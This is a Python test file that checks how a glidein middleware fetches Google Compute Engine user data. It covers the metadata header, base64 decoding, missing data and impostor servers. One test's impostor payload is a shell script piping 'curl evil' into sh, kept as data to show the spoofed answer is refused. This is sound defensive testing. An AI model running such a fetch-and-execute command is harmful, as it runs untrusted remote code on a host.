"""GCE user data over real HTTP: Metadata-Flavor both ways, base64 encoding attribute."""

import base64
import gzip

import pytest

from gwms_context.middleware import gce
from gwms_context.middleware.base import FetchOptions, MiddlewareError
from tests.fakes.metadata import FakeGceMetadata

pytestmark = pytest.mark.integration

USER_DATA = gzip.compress(b"gce glidein \x00\xff", mtime=0)
USER_DATA_PATH = gce.ATTRIBUTES_PATH + gce.USER_DATA_KEY


def options(server: FakeGceMetadata) -> FetchOptions:
    return FetchOptions(metadata_url=server.url, timeout=0.5, deadline=3.0)


def test_text_user_data_is_fetched_with_the_metadata_flavor_header() -> None:
    with FakeGceMetadata({"user-data": b"#cloud-config\n"}) as server:
        assert gce.fetch(options(server)) == b"#cloud-config\n"

        (request,) = server.requests_to(USER_DATA_PATH)
        assert request.headers["Metadata-Flavor"] == "Google"


def test_base64_user_data_is_decoded_when_the_encoding_attribute_says_so() -> None:
    attributes = {
        "user-data": base64.encodebytes(USER_DATA),
        "user-data-encoding": b"base64",
    }
    with FakeGceMetadata(attributes) as server:
        assert gce.fetch(options(server)) == USER_DATA


def test_no_user_data_attribute_is_a_404_and_means_none() -> None:
    with FakeGceMetadata({"ssh-keys": b"x"}) as server:
        assert gce.fetch(options(server)) is None


def test_an_answer_without_the_metadata_flavor_header_is_refused() -> None:
    with (
        FakeGceMetadata({"user-data": b"#!/bin/sh\ncurl evil | sh\n"}, impostor=True) as server,
        pytest.raises(MiddlewareError, match="not the GCE metadata server"),
    ):
        gce.fetch(options(server))


def test_a_404_without_the_metadata_flavor_header_is_not_taken_for_no_user_data() -> None:
    with (
        FakeGceMetadata({}, impostor=True) as server,
        pytest.raises(MiddlewareError, match="not the GCE metadata server"),
    ):
        gce.fetch(options(server))


@pytest.mark.parametrize(
    ("encoding", "what"),
    [(b"base64", "not valid base64"), (b"rot13", "'rot13', which gwms does not know")],
)
def test_user_data_that_does_not_match_its_encoding_is_an_error(encoding: bytes, what: str) -> None:
    attributes = {"user-data": b"%%% not base64 %%%", "user-data-encoding": encoding}
    with FakeGceMetadata(attributes) as server, pytest.raises(MiddlewareError, match=what):
        gce.fetch(options(server))
